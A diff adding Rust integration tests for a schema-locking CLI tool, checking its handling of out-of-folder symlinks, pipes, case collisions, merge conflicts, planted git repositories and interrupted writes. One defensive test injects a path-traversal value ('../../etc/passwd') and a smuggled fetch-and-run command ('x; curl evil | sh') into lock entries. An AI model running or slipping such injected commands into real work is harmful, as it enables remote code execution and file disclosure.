@@ -191,3 +191,228 @@ fn thousand_events_and_windows_line_ends_are_read_in_every_command() {
     let list = scratch.run(&["list", "--format", "json"]).json();
     assert_eq!(list["versions"].as_array().unwrap().len(), 1_000);
 }
+
+/// `cargo event ARGS`, killed where it does not end by itself.
+fn bounded(scratch: &Scratch, args: &[&str]) -> crate::scratch::Run {
+    let begun = std::time::Instant::now();
+    let mut command = scratch.command(args);
+    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    while child.try_wait().unwrap().is_none() {
+        if begun.elapsed().as_secs() > 30 {
+            child.kill().unwrap();
+            panic!("{args:?} waits for ever");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let output = child.wait_with_output().unwrap();
+    crate::scratch::Run {
+        code: output.status.code().unwrap(),
+        out: String::from_utf8(output.stdout).unwrap(),
+        err: String::from_utf8(output.stderr).unwrap(),
+    }
+}
+
+#[test]
+fn lock_behind_a_link_out_of_the_folder_is_not_read() {
+    let secret = Scratch::empty();
+    secret.write("secret.toml", "password = \"hunter2");
+    for target in [secret.path("secret.toml"), "/dev/zero".into()] {
+        let scratch = Scratch::order();
+        symlink(target, scratch.path("schemas/schemas.lock")).unwrap();
+        scratch.write("order.sent.json", ORDER_1_0);
+        for command in [
+            &["check"][..],
+            &["lock"],
+            &["list"],
+            &["unlock", "order.placed@1.0"],
+            &["new-version", "order.placed"],
+            &["import", "order.sent.json"],
+            &["pull", "--registry", "shop"],
+        ] {
+            let run = bounded(&scratch, command);
+            assert_eq!(run.code, 2, "{command:?}: {}", run.err);
+            let said = run.err.matches("error[").count();
+            assert!(run.err.contains("error[link-out-of-folder]"), "{command:?}: {}", run.err);
+            assert_eq!(said, 1, "one mistake is one error: {command:?}: {}", run.err);
+            assert!(!run.err.contains("basic string"), "{}", run.err);
+        }
+    }
+}
+
+#[test]
+fn pipes_and_folders_in_place_of_files_are_said_and_not_waited_for() {
+    let pipe = |path: std::path::PathBuf| {
+        assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
+    };
+    for file in ["schemas/schemas.lock", "schemas/event.toml", "schemas/shop/order.placed/1.2.json"]
+    {
+        let scratch = Scratch::order();
+        pipe(scratch.path(file));
+        let run = bounded(&scratch, &["check"]);
+        assert_eq!(run.code, 2);
+        assert!(run.err.contains("not a regular file"), "{file}: {}", run.err);
+        assert!(!run.err.contains("lock-missing") || !file.ends_with("lock"), "{}", run.err);
+    }
+    for file in ["schemas/schemas.lock", "schemas/event.toml"] {
+        let scratch = Scratch::locked();
+        let _ = std::fs::remove_file(scratch.path(file));
+        std::fs::create_dir(scratch.path(file)).unwrap();
+        let run = scratch.run(&["check"]);
+        run.says(2, &["this is a folder, expected a file"]);
+        assert_eq!(run.err.matches("error[unreadable]").count(), 1, "{}", run.err);
+        assert!(!run.err.contains("bad-event-name"), "{}", run.err);
+    }
+}
+
+#[test]
+fn names_in_the_lock_never_reach_a_suggested_command() {
+    let scratch = Scratch::locked();
+    let lock = scratch.read("schemas/schemas.lock");
+    for (registry, event) in [("../../etc", "passwd"), ("shop", "x; curl evil | sh"), ("", "x")] {
+        let entry = format!(
+            "\n[[schema]]\nregistry = \"{registry}\"\ntype = \"{event}\"\nversion = \"1.0\"\nsha256 = \"{}\"\n",
+            "0".repeat(64)
+        );
+        scratch.write("schemas/schemas.lock", format!("{lock}{entry}"));
+        let run = scratch.run(&["check"]);
+        run.says(2, &["error[bad-lock]", "cannot be the folder of"]);
+        assert!(!run.err.contains("git checkout"), "{}", run.err);
+    }
+}
+
+#[test]
+fn folders_that_differ_in_case_alone_are_an_error() {
+    let scratch = Scratch::locked();
+    scratch.run(&["new", "Order.Placed"]).says(2, &["error[bad-event-name]", "ignore case"]);
+    scratch.write("schemas/shop/Order.Placed/1.0.json", ORDER_1_0);
+    let text = "`Order.Placed` and `order.placed` are one folder";
+    scratch.run(&["check"]).says(2, &["error[bad-event-name]", text]);
+    scratch.run(&["lock"]).says(2, &[text]);
+    let scratch = Scratch::locked();
+    scratch.write("schemas/Shop/order.sent/1.0.json", ORDER_1_0);
+    scratch.run(&["check"]).says(2, &["the registries `Shop` and `shop` are one folder"]);
+}
+
+#[test]
+fn nobody_is_told_to_write_over_a_version() {
+    let scratch = Scratch::locked();
+    for file in ["v1.0.json", "1.0.json~", "1.0.JSON", "1.0.yaml"] {
+        scratch.write(&format!("{ORDER}/{file}"), ORDER_1_0);
+        let run = scratch.run(&["check"]);
+        run.says(2, &["error[bad-file-name]", "`1.0.json` is there already"]);
+        assert!(!run.err.contains("call it"), "{}", run.err);
+        scratch.remove(&format!("{ORDER}/{file}"));
+    }
+    scratch.write(&format!("{ORDER}/2.0.yaml"), "type: object");
+    scratch.run(&["check"]).says(2, &["convert it to JSON, as `2.0.json`"]);
+    scratch.remove(&format!("{ORDER}/2.0.yaml"));
+    for (folder, name) in [("con", "event.con"), ("a.", "a"), ("caf\u{e9}", "caf")] {
+        scratch.write(&format!("schemas/shop/{folder}/1.0.json"), ORDER_1_0);
+        scratch.run(&["check"]).says(2, &[&format!("call it `{name}`")]);
+        std::fs::remove_dir_all(scratch.path(&format!("schemas/shop/{folder}"))).unwrap();
+    }
+}
+
+#[test]
+fn slips_in_the_names_of_the_lock_and_the_settings_are_said() {
+    for (file, own) in [
+        ("schema.lock", "schemas.lock"),
+        ("schemas.Lock", "schemas.lock"),
+        ("event.tml", "event.toml"),
+        ("Event.toml", "event.toml"),
+    ] {
+        let scratch = Scratch::locked();
+        scratch.write(&format!("schemas/{file}"), "");
+        scratch
+            .run(&["check"])
+            .says(2, &["error[bad-file-name]", &format!("rename it to `schemas/{own}`")]);
+    }
+    let scratch = Scratch::locked();
+    for file in ["README.md", "Makefile", "schema.json.md"] {
+        scratch.write(&format!("schemas/{file}"), "");
+    }
+    scratch.run(&["check"]).says(0, &[]);
+}
+
+/// Both edits are saved where nothing is: following all of the help loses neither.
+#[test]
+fn help_for_several_edited_versions_saves_each_under_a_number_of_its_own() {
+    let scratch = Scratch::locked();
+    // there, and unreadable: as taken as any other
+    scratch.write(&format!("{ORDER}/1.2.json"), b"\xff");
+    for version in ["1.0", "1.1"] {
+        let file = format!("{ORDER}/{version}.json");
+        scratch.write(&file, scratch.read(&file).replace("OrderPlaced", "Edited"));
+    }
+    let run = scratch.run(&["check"]);
+    let to = |version: &str| format!("`mv {ORDER}/{version}.json {ORDER}/");
+    run.says(2, &[&format!("{}1.3.json`", to("1.0")), &format!("{}1.4.json`", to("1.1"))]);
+}
+
+#[test]
+fn merge_conflict_in_the_settings_is_called_one() {
+    let scratch = Scratch::locked();
+    let (a, b, c) = ("<".repeat(7), "=".repeat(7), ">".repeat(7));
+    scratch.write(
+        "schemas/event.toml",
+        format!("{a} HEAD\nnumber = \"f64\"\n{b}\nnumber = \"f32\"\n{c} topic\n"),
+    );
+    let run = scratch.run(&["check"]);
+    run.says(2, &["error[merge-conflict]", "remove the markers"]);
+    assert_eq!(run.err.matches("error[").count(), 1, "{}", run.err);
+}
+
+#[test]
+fn versions_that_both_branches_locked_merge_into_one_lock() {
+    let scratch = Scratch::locked();
+    let lock = scratch.read("schemas/schemas.lock");
+    let entry = lock.rfind("\n[[schema]]").unwrap();
+    scratch.write("schemas/schemas.lock", format!("{lock}{}", &lock[entry..]));
+    scratch.run(&["check"]).says(0, &[]);
+    scratch.run(&["lock"]).says(0, &[]);
+    // whoever writes it next writes each once
+    scratch.run(&["new", "order.sent"]).says(0, &[]);
+    scratch.run(&["lock"]).says(0, &[]);
+    assert_eq!(scratch.read("schemas/schemas.lock").matches("[[schema]]").count(), 3);
+}
+
+/// A folder that looks like a repository without a work tree brings a configuration of its own.
+#[test]
+fn repository_inside_the_schema_folder_is_not_asked() {
+    let scratch = Scratch::locked();
+    let git = |folder: &str, args: &[&str]| {
+        let mut command = std::process::Command::new("git");
+        command.args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args);
+        let done = command.current_dir(scratch.path(folder)).output().unwrap();
+        assert!(done.status.success(), "{done:?}");
+    };
+    git(".", &["init", "-q"]);
+    git(".", &["add", "."]);
+    git(".", &["commit", "-q", "-m", "a"]);
+    scratch.run(&["unlock", "order.placed@1.1"]).says(1, &["error[version-published]"]);
+    git(".", &["init", "-q", "--bare", "other"]);
+    for part in ["HEAD", "config", "objects", "refs"] {
+        std::fs::rename(
+            scratch.path(&format!("other/{part}")),
+            scratch.path(&format!("schemas/{part}")),
+        )
+        .unwrap();
+    }
+    let run = scratch.run(&["unlock", "order.placed@1.1"]);
+    run.says(2, &["error[git-failed]", "the repository cannot be read"]);
+    scratch.run(&["check", "--against", "git:HEAD"]).says(2, &["error[git-failed]"]);
+}
+
+#[test]
+fn next_command_finishes_what_a_killed_one_began() {
+    let scratch = Scratch::locked();
+    scratch.write("schemas/shop/order.sent/1.0.json.part12", "{ half");
+    scratch.run(&["new", "order.sent"]).says(0, &[]);
+    scratch.run(&["new", "order.sent"]).says(2, &["error[file-exists]"]);
+    scratch.write("in/order.gone/1.0.json", ORDER_1_0.replace("OrderPlaced", "x"));
+    scratch.write("schemas/shop/order.gone/.importAbCdEf", "{ half");
+    scratch.run(&["import", "in"]).says(0, &[]);
+    assert!(!scratch.path("schemas/shop/order.gone/.importAbCdEf").exists());
+    scratch.run(&["lock"]).says(0, &[]);
+}
